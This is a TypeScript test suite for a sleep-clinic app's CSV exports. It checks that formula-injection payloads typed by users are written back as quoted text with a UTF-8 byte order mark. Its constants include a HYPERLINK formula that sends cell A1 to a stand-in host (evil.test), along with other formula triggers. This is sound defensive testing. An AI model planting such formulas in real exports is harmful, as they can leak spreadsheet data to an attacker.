// Every CSV download, as a clinic's spreadsheet would open it (issue 22 §3): a sleeper, a clinician and
// Asleep put formula payloads in every field they control (names, e-mails, Asleep user and session ids,
// tags, notes), then each CSV route's file is read back with csv-parse, strictly, skipping its byte order
// mark: no cell may start with what a spreadsheet runs as a formula (= + - @ tab CR LF), each payload is
// there as text behind one quote, and "Zoë" and Hangul come through in UTF-8 behind a BOM.

import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import { signIn, usersCli } from "./support/accounts";
import { createTestDatabase, type TestDatabase } from "./support/postgres";
import { startServer, type RunningServer } from "./support/server";
import { postWebhook, sessionComplete, type WebhookTarget } from "./support/webhook";

const PASSWORD = "a long enough passphrase";

// What people and Asleep typed, each starting with a formula trigger.
const PATIENT_NAME = '=HYPERLINK("http://evil.test/?"&A1,"Zoë 김민준")';
const PATIENT_EMAIL = "-2+3@csv.test";
const ASLEEP_USER = "=1+2";
const SESSION = "@SUM(1+1)";
const CLINICIAN_NAME = "+Dr Evil";
const CLINICIAN_EMAIL = "+dr@csv.test";
const TAGS = ["=1+2", "-2+3", "@SUM(1)", "+cmd"];
const NOTE = '=HYPERLINK("http://evil.test","notes")';

const RANGE = "from=2026-11-01&to=2026-11-03";
const patient = encodeURIComponent(ASLEEP_USER);
/** Each CSV route, with the request that downloads it, who asks, and the payloads its file must hold as text. */
const ROUTES: Record<string, { path: string; who: "doctor" | "admin"; holds: string[] }> = {
  "board.csv": { path: "/api/board.csv", who: "doctor", holds: [PATIENT_NAME, PATIENT_EMAIL, ASLEEP_USER, TAGS.join("; "), NOTE, CLINICIAN_NAME] },
  "patients/[asleepUserId]/nights.csv": { path: `/api/patients/${patient}/nights.csv?${RANGE}`, who: "doctor", holds: [SESSION, TAGS.join("; ")] },
  "patients/[asleepUserId]/report.csv": { path: `/api/patients/${patient}/report.csv?${RANGE}`, who: "doctor", holds: [SESSION, TAGS.join("; ")] },
  "sessions/[id]/export.csv": { path: `/api/sessions/${encodeURIComponent(SESSION)}/export.csv`, who: "doctor", holds: [] },
  "admin/access-log.csv": { path: "/api/admin/access-log.csv", who: "admin", holds: [CLINICIAN_EMAIL, ASLEEP_USER] },
  "billing.csv": { path: `/api/billing.csv?month=${new Date().toISOString().slice(0, 7)}`, who: "doctor", holds: [PATIENT_NAME, ASLEEP_USER] },
};

/** Every route under app/api whose folder is named *.csv. */
function csvRoutes(dir = path.resolve(import.meta.dirname, "../app/api"), prefix = ""): string[] {
  return readdirSync(dir, { withFileTypes: true })
    .filter((e) => e.isDirectory())
    .flatMap((e) => [...(e.name.endsWith(".csv") ? [`${prefix}${e.name}`] : []), ...csvRoutes(path.join(dir, e.name), `${prefix}${e.name}/`)]);
}

const FORMULA = /^[=+\-@\t\r\n]/;
/** A number the app wrote ("-1", "92.6"): a spreadsheet reads it as a number, never as a formula. */
const NUMBER = /^-?\d+(\.\d+)?$/;

describe("CSV downloads: formulas people typed stay text, UTF-8 behind a BOM", { timeout: 300_000 }, () => {
  let db: TestDatabase;
  let server: RunningServer;
  const cookies: Record<string, string> = {};

  before(async () => {
    db = await createTestDatabase();
    const target: WebhookTarget = { url: "", apiKey: "csv-test-key-0123456789" };
    server = await startServer({ databaseUrl: db.url, apiKey: target.apiKey });
    target.url = server.url;
    await usersCli(server, ["add", "--email", "admin@csv.test", "--name", "Ada Admin", "--password", PASSWORD, "--role", "admin"]);
    await usersCli(server, ["add", "--email", CLINICIAN_EMAIL, "--name", CLINICIAN_NAME, "--password", PASSWORD, "--role", "clinician"]);
    // --option=value: a value starting with "-" is not read as an option.
    await usersCli(server, ["add", `--email=${PATIENT_EMAIL}`, "--name", PATIENT_NAME, "--password", PASSWORD, "--role", "patient", "--asleep-user-id", ASLEEP_USER, "--clinician", CLINICIAN_EMAIL]);
    // Asleep names the night; 22:30 Mon 2 Nov in Paris, an hour.
    const stages = [...Array(20).fill(0), ...Array(100).fill(1)];
    const body = sessionComplete({ userId: ASLEEP_USER, sessionId: SESSION, startTime: "2026-11-02T21:30:00.000Z", endTime: "2026-11-02T22:30:00.000Z", timezone: "Europe/Paris", sleepStages: stages, stat: {} });
    assert.equal((await postWebhook(target, body)).status, 200);
    for (const [i, [who, email]] of [["admin", "admin@csv.test"], ["doctor", CLINICIAN_EMAIL], ["sleeper", PATIENT_EMAIL]].entries()) {
      const result = await signIn(server, email!, PASSWORD, `127.0.7.${i + 1}`);
      assert.ok(result.cookie, `${who} signs in`);
      cookies[who!] = result.cookie;
    }
    const send = async (method: string, route: string, who: string, payload: unknown) => {
      const res = await fetch(`${server.url}${route}`, { method, headers: { cookie: cookies[who]!, origin: server.url, "content-type": "application/json" }, body: JSON.stringify(payload) });
      assert.ok(res.ok, `${method} ${route}: ${res.status} ${await res.text()}`);
    };
    await send("PUT", `/api/sessions/${encodeURIComponent(SESSION)}/tags`, "sleeper", { tags: TAGS });
    await send("POST", `/api/sessions/${encodeURIComponent(SESSION)}/notes`, "doctor", { text: NOTE });
  });

  after(async () => {
    await server?.stop();
    await db?.drop();
  });

  it("every CSV route is covered here", () => {
    assert.deepEqual(csvRoutes().sort(), Object.keys(ROUTES).sort());
  });

  for (const [route, { path: url, who, holds }] of Object.entries(ROUTES)) {
    it(`${route}: a UTF-8 BOM, then no cell a spreadsheet would run; what people typed is there, as text`, async () => {
      const res = await fetch(`${server.url}${url}`, { headers: { cookie: cookies[who]! } });
      assert.equal(res.status, 200, url);
      assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
      const bytes = Buffer.from(await res.arrayBuffer());
      assert.equal(bytes.subarray(0, 3).toString("hex"), "efbbbf", "the file starts with the UTF-8 byte order mark");
      const rows = parse(bytes, { bom: true, record_delimiter: "\r\n" }) as string[][];
      assert.ok(rows.length >= 2, `a header and at least one row: ${bytes.toString("utf8")}`);
      const cells = rows.flat();
      const formulas = cells.filter((c) => FORMULA.test(c) && !NUMBER.test(c));
      assert.deepEqual(formulas, [], `${route}: cells a spreadsheet would run`);
      for (const typed of holds) {
        assert.ok(cells.some((c) => c === `'${typed}` || c.startsWith(`'${typed},`)), `${route} holds ${JSON.stringify(typed)} as text: ${JSON.stringify(rows.slice(0, 3))}`);
      }
      if (route === "board.csv") assert.ok(cells.includes(`'${PATIENT_NAME}`), "Zoë and 김민준 read back as written (UTF-8)");
    });
  }

  it("report.csv: the notes column, which starts with the note's author, is text too", async () => {
    const res = await fetch(`${server.url}${ROUTES["patients/[asleepUserId]/report.csv"]!.path}`, { headers: { cookie: cookies.doctor! } });
    const [header, row] = parse(Buffer.from(await res.arrayBuffer()), { bom: true }) as string[][];
    const notes = row![header!.indexOf("clinician_notes")]!;
    assert.ok(notes.startsWith(`'${CLINICIAN_NAME}, `), notes);
    assert.ok(notes.endsWith(`: ${NOTE}`), notes);
  });
});
